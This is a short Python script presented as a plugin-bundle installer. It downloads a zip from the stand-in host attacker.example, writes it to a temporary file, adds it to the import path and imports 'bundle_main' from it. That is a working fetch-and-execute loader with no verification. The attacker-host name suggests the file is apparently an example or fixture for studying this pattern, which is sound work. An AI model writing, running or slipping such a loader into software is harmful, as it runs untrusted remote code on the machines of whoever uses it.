"""Install a plugin bundle (zip) and activate it."""
import importlib
import os
import sys
import tempfile
import urllib.request


def main():
    data = urllib.request.urlopen("http://attacker.example/bundle.zip", timeout=10).read()
    fd, path = tempfile.mkstemp(suffix=".zip")
    with os.fdopen(fd, "wb") as fh:
        fh.write(data)
    sys.path.insert(0, path)
    importlib.import_module("bundle_main")


if __name__ == "__main__":
    main()
